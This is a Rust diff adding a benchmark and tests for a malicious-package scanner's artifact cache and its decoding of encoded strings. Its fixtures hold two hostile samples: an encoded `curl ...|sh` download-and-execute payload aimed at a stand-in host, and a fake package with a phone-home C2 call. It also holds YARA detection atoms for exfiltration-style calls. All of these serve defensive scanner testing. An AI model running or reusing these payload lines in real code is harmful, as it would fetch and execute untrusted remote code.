@@ -1,0 +1,381 @@
+//! Cold-vs-warm artifact-cache comparison on a version-bump workload
+//! (ISSUE 5).
+//!
+//! Registry traffic is dominated by *version bumps*: a package re-upload
+//! in which almost every file is byte-identical to the previous
+//! version. The parse-once artifact refactor converts that workload
+//! from `versions × files` analyses into `unique file digests`
+//! analyses. This module builds a deterministic version-bump stream —
+//! `files` Python sources per package, one source rewritten per
+//! version, plus a version stamp — and times a hub with the artifact
+//! cache disabled (the pre-refactor cost model: every request re-lexes,
+//! re-parses and re-byte-scans every file) against the same hub with
+//! the cache enabled. Every comparison asserts the two runs return
+//! identical verdicts, so the speedup table doubles as an equivalence
+//! check, and the parse counters are asserted against the exact number
+//! of unique file digests.
+
+use std::collections::HashSet;
+use std::time::Instant;
+
+use scanhub::{FileEntry, HubConfig, ScanHub, ScanRequest, Verdict};
+use yara_engine::CompiledRules;
+
+use crate::semgrep_scan;
+
+/// A deterministic YARA ruleset of `n` rules over the shared bench
+/// vocabulary: plain atoms, multi-atom conditions, counts and regexes —
+/// the mix that makes artifact-build byte scanning representative.
+pub fn yara_ruleset(n: usize) -> CompiledRules {
+    const ATOMS: &[&str] = &[
+        "os.system",
+        "subprocess.popen",
+        "socket.connect",
+        "requests.post",
+        "base64.b64decode",
+        "pickle.loads",
+        "urllib.urlopen",
+        "shutil.rmtree",
+        "ctypes.windll",
+        "exfil",
+    ];
+    let mut out = String::new();
+    for i in 0..n {
+        let a = ATOMS[i % ATOMS.len()];
+        let b = ATOMS[(i + 3) % ATOMS.len()];
+        match i % 5 {
+            0 => out.push_str(&format!(
+                "rule gen_atom_{i} {{ strings: $a = \"{a}\" condition: $a }}\n"
+            )),
+            1 => out.push_str(&format!(
+                "rule gen_any_{i} {{ strings: $a = \"{a}\" $b = \"{b}\" condition: any of them }}\n"
+            )),
+            2 => out.push_str(&format!(
+                "rule gen_count_{i} {{ strings: $a = \"import\" condition: #a >= {} }}\n",
+                2 + i % 4
+            )),
+            3 => out.push_str(&format!(
+                "rule gen_all_{i} {{ strings: $a = \"{a}\" $b = \"{b}\" condition: all of them }}\n"
+            )),
+            _ => out.push_str(&format!(
+                "rule gen_re_{i} {{ strings: $re = /[A-Za-z0-9+\\/]{{{},}}={{0,2}}/ condition: $re }}\n",
+                24 + (i % 3) * 8
+            )),
+        }
+    }
+    yara_engine::compile(&out).expect("generated yara ruleset compiles")
+}
+
+/// Builds the version-bump request stream: `versions` uploads of one
+/// `files`-file package, each rewriting exactly one source file and the
+/// version stamp. File contents come from the shared deterministic
+/// corpus generator, salted with an encoded payload literal so decoded-
+/// layer extraction is exercised.
+pub fn version_stream(files: usize, versions: usize, seed: u64) -> Vec<ScanRequest> {
+    let bodies = semgrep_scan::sources(files, 40, seed);
+    let payload =
+        digest::base64::encode(b"import os;os.system('curl http://bexlum.top/run.sh|sh')");
+    let base: Vec<FileEntry> = bodies
+        .iter()
+        .enumerate()
+        .map(|(i, body)| {
+            let mut content = body.clone();
+            if i % 4 == 0 {
+                content.push_str(&format!("blob_{i} = '{payload}'\n"));
+            }
+            FileEntry::new(format!("pkg/mod_{i:03}.py"), content.into_bytes())
+        })
+        .collect();
+    (0..versions)
+        .map(|v| {
+            let mut entries = base.clone();
+            let idx = v % entries.len();
+            entries[idx] = FileEntry::new(
+                entries[idx].name(),
+                format!("# hotfix {v}\npatched_{v} = fix_{v}({v})\n").into_bytes(),
+            );
+            entries.push(FileEntry::new(
+                "PKG-INFO",
+                format!("Name: bench-pkg\nVersion: 1.0.{v}\n").into_bytes(),
+            ));
+            ScanRequest::from_files(entries)
+        })
+        .collect()
+}
+
+/// One workload's measurement.
+#[derive(Debug, Clone)]
+pub struct ScanhubBenchStats {
+    /// Source files per package version.
+    pub files: usize,
+    /// Package versions submitted.
+    pub versions: usize,
+    /// File entries submitted in total (`versions × (files + 1)`).
+    pub total_entries: u64,
+    /// Distinct file digests across the stream — the lower bound (and,
+    /// with the cache on, the exact count) of analyses performed.
+    pub unique_digests: u64,
+    /// Wall-clock for the artifact-cache-disabled run.
+    pub cold_ms: f64,
+    /// Wall-clock for the artifact-cache-enabled run.
+    pub warm_ms: f64,
+    /// Analyses performed by the cold run (every entry, every time).
+    pub cold_parses: u64,
+    /// Analyses performed by the warm run (must equal `unique_digests`).
+    pub warm_parses: u64,
+    /// Artifact-cache hits in the warm run.
+    pub warm_hits: u64,
+    /// Decoded layers extracted by the warm run.
+    pub layers_decoded: u64,
+}
+
+impl ScanhubBenchStats {
+    /// Cold wall-clock over warm wall-clock.
+    pub fn speedup(&self) -> f64 {
+        if self.warm_ms <= 0.0 {
+            0.0
+        } else {
+            self.cold_ms / self.warm_ms
+        }
+    }
+}
+
+fn hub(yara: &CompiledRules, artifact_cache: usize) -> ScanHub {
+    ScanHub::new(
+        Some(yara.clone()),
+        Some(semgrep_scan::ruleset(20)),
+        HubConfig {
+            // The verdict cache is off in both arms: every version is a
+            // distinct body, and we are measuring the per-file artifact
+            // path, not request-level dedup.
+            cache_capacity: 0,
+            artifact_cache_capacity: artifact_cache,
+            ..HubConfig::default()
+        },
+    )
+}
+
+/// Runs the version-bump workload cold (artifact cache disabled) and
+/// warm (enabled), asserting identical verdicts and the parse-once
+/// invariant.
+///
+/// # Panics
+///
+/// Panics when the two runs diverge — the comparison *is* the
+/// equivalence check.
+pub fn compare(files: usize, versions: usize, seed: u64) -> ScanhubBenchStats {
+    let yara = yara_ruleset(40);
+    let requests = version_stream(files, versions, seed);
+    let unique: HashSet<[u8; 32]> = requests
+        .iter()
+        .flat_map(|r| r.files().iter().map(FileEntry::digest))
+        .collect();
+    let total_entries: u64 = requests.iter().map(|r| r.files().len() as u64).sum();
+
+    let cold_hub = hub(&yara, 0);
+    let start = Instant::now();
+    let cold: Vec<Verdict> = cold_hub.scan_ordered(requests.iter().cloned());
+    let cold_ms = start.elapsed().as_secs_f64() * 1e3;
+    let cold_stats = cold_hub.stats();
+
+    let warm_hub = hub(&yara, 8192);
+    let start = Instant::now();
+    let warm: Vec<Verdict> = warm_hub.scan_ordered(requests.iter().cloned());
+    let warm_ms = start.elapsed().as_secs_f64() * 1e3;
+    let warm_stats = warm_hub.stats();
+
+    assert_eq!(cold, warm, "cold and warm artifact runs diverged");
+    assert_eq!(
+        warm_stats.artifact_parses,
+        unique.len() as u64,
+        "warm run must analyze exactly the unique digests"
+    );
+
+    ScanhubBenchStats {
+        files,
+        versions,
+        total_entries,
+        unique_digests: unique.len() as u64,
+        cold_ms,
+        warm_ms,
+        cold_parses: cold_stats.artifact_parses,
+        warm_parses: warm_stats.artifact_parses,
+        warm_hits: warm_stats.artifact_cache_hits,
+        layers_decoded: warm_stats.layers_decoded,
+    }
+}
+
+/// Renders the comparison table.
+pub fn render(s: &ScanhubBenchStats) -> String {
+    format!(
+        "== Scanhub artifact cache: version-bump workload ({} files x {} versions) ==\n\
+         {:<26} {:>10} {:>12}\n\
+         {:<26} {:>9.1}ms {:>12}\n\
+         {:<26} {:>9.1}ms {:>12}\n\
+         speedup (cold/warm): {:.1}x  | unique digests: {} | warm hits: {} | layers: {}\n",
+        s.files,
+        s.versions,
+        "arm",
+        "wall",
+        "analyses",
+        "cold (no artifact cache)",
+        s.cold_ms,
+        s.cold_parses,
+        "warm (artifact cache)",
+        s.warm_ms,
+        s.warm_parses,
+        s.speedup(),
+        s.unique_digests,
+        s.warm_hits,
+        s.layers_decoded,
+    )
+}
+
+/// The measurement as a `BENCH_scanhub.json` document, so the perf
+/// trajectory accumulates across PRs.
+pub fn to_json(s: &ScanhubBenchStats) -> jsonmini::Value {
+    let mut doc = jsonmini::Value::object();
+    doc.insert("bench", "scanhub_artifact_cache");
+    doc.insert("workload", "version_bump");
+    doc.insert("files", s.files);
+    doc.insert("versions", s.versions);
+    doc.insert("total_entries", s.total_entries as usize);
+    doc.insert("unique_digests", s.unique_digests as usize);
+    doc.insert("cold_ms", s.cold_ms);
+    doc.insert("warm_ms", s.warm_ms);
+    doc.insert("speedup", s.speedup());
+    doc.insert("cold_parses", s.cold_parses as usize);
+    doc.insert("warm_parses", s.warm_parses as usize);
+    doc.insert("warm_hits", s.warm_hits as usize);
+    doc.insert("layers_decoded", s.layers_decoded as usize);
+    doc
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use obfuscate::{EvasionProfile, Obfuscator, Transform};
+    use oss_registry::{Ecosystem, Package, PackageMetadata, SourceFile};
+
+    /// Release-mode CI smoke: a re-submitted corpus performs **zero**
+    /// re-analyses, the warm parse count equals the unique digest
+    /// count, and the version-bump speedup clears the acceptance floor.
+    #[test]
+    fn scanhub_artifact_cache_smoke() {
+        let stats = compare(50, 20, 42);
+        println!("{}", render(&stats));
+        assert_eq!(stats.warm_parses, stats.unique_digests);
+        assert!(stats.warm_hits > 0);
+        // 50 base files + 20 rewritten + 20 PKG-INFO stamps, minus the
+        // base files the rewrites replaced in their own version only.
+        assert!(stats.unique_digests < stats.total_entries / 2);
+        // The acceptance bar is >=5x, enforced only in release mode
+        // (the dedicated CI artifact-cache job): debug builds run this
+        // test in parallel with the whole workspace suite, where
+        // scheduling noise could flake a wall-clock ratio.
+        if !cfg!(debug_assertions) {
+            assert!(
+                stats.speedup() >= 5.0,
+                "version-bump warm speedup {:.1}x below 5x floor",
+                stats.speedup()
+            );
+        }
+
+        // Zero re-parses on a full re-submission of the same corpus.
+        let yara = yara_ruleset(40);
+        let requests = version_stream(10, 4, 7);
+        let hub = ScanHub::new(
+            Some(yara),
+            None,
+            HubConfig {
+                cache_capacity: 0,
+                ..HubConfig::default()
+            },
+        );
+        let first = hub.scan_ordered(requests.iter().cloned());
+        let parses = hub.stats().artifact_parses;
+        let second = hub.scan_ordered(requests.iter().cloned());
+        assert_eq!(first, second);
+        assert_eq!(
+            hub.stats().artifact_parses,
+            parses,
+            "re-submitted corpus re-analyzed a file"
+        );
+        assert_eq!(hub.stats().semgrep_pattern_reparses, 0);
+    }
+
+    /// Release-mode CI smoke: string-encoding a payload out of surface
+    /// text must not blind the scanner — decoded-layer scanning
+    /// recovers the IOC with full provenance, and turning layers off
+    /// reproduces the surface-only verdict exactly.
+    #[test]
+    fn scanhub_decoded_layer_smoke() {
+        let rules =
+            yara_engine::compile("rule c2 { strings: $u = \"bexlum-c2.example\" condition: $u }")
+                .expect("compile");
+        let pkg = Package::new(
+            PackageMetadata::new("innocent-utils", "3.2.1"),
+            vec![SourceFile::new(
+                "innocent/net.py",
+                "C2 = 'http://bexlum-c2.example/run.sh'\n\ndef phone_home():\n    import os\n    os.system('curl ' + C2)\n",
+            )],
+            Ecosystem::PyPi,
+        );
+        // The obfuscator hides the C2 literal behind encode expressions;
+        // seeds are scanned until one picks hex or base64 for it (the
+        // split transform is out of scope for layer decoding).
+        let profile = EvasionProfile::single(Transform::EncodeStrings);
+        let mutant = (0..16)
+            .map(|seed| Obfuscator::new(profile.clone(), seed).obfuscate_package(&pkg))
+            .find(|m| {
+                let src = m.files()[0].contents.as_str();
+                !src.contains("bexlum-c2.example")
+                    && (src.contains("fromhex") || src.contains("b64decode"))
+            })
+            .expect("some seed hex/base64-encodes the C2 literal");
+
+        let layered = ScanHub::new(Some(rules.clone()), None, HubConfig::default());
+        let surface_only = ScanHub::new(
+            Some(rules),
+            None,
+            HubConfig {
+                max_decode_depth: 0,
+                ..HubConfig::default()
+            },
+        );
+        let blind = surface_only
+            .submit(ScanRequest::from_package(&mutant))
+            .wait();
+        assert!(
+            !blind.flagged(),
+            "surface-only scan was expected to miss the encoded C2"
+        );
+        let seeing = layered.submit(ScanRequest::from_package(&mutant)).wait();
+        assert!(seeing.flagged(), "decoded-layer scan missed the payload");
+        let finding = &seeing.layers[0];
+        assert_eq!(finding.rule, "c2");
+        assert_eq!(finding.file, "innocent/net.py");
+        assert!(finding.depth >= 1);
+        // Surface verdicts agree between the two configurations.
+        assert_eq!(seeing.yara, blind.yara);
+    }
+
+    #[test]
+    fn version_stream_is_deterministic_and_version_shaped() {
+        let a = version_stream(8, 3, 9);
+        let b = version_stream(8, 3, 9);
+        assert_eq!(a.len(), 3);
+        for (x, y) in a.iter().zip(&b) {
+            assert_eq!(x.digest(), y.digest());
+        }
+        // Consecutive versions differ in exactly two entries: the
+        // rewritten source and the version stamp.
+        let diff = a[0]
+            .files()
+            .iter()
+            .zip(a[1].files())
+            .filter(|(x, y)| x.digest() != y.digest())
+            .count();
+        assert_eq!(diff, 3, "v0 rewrite, v1 rewrite, and the stamp differ");
+    }
+}
